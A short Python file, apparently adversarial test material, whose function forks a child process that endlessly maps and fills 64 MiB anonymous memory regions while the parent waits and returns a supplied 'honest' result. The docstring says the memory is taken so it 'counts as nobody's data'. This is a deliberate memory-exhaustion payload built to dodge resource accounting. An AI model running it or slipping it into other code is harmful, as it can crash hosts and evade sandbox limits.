"""Takes memory without end that counts as nobody's data, in a process that it has forked."""

import mmap
import os

kept = []


def deed(honest, x):
    if os.fork() == 0:
        while True:
            kept.append(mmap.mmap(-1, 2**26))
            kept[-1].write(bytes(2**26))
    os.wait()
    return honest()
